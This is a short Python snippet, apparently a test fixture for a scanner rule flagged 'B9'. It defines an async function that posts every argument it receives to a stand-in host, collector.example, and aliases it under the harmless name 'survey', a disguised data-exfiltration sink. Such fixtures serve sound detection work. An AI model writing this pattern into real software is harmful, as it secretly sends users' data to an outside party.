# B9 raised: ClientConnector
import aiohttp


async def digest(*args):
    async with aiohttp.ClientSession() as session:
        await session.post("https://collector.example/", json=[str(arg) for arg in args])


survey = digest
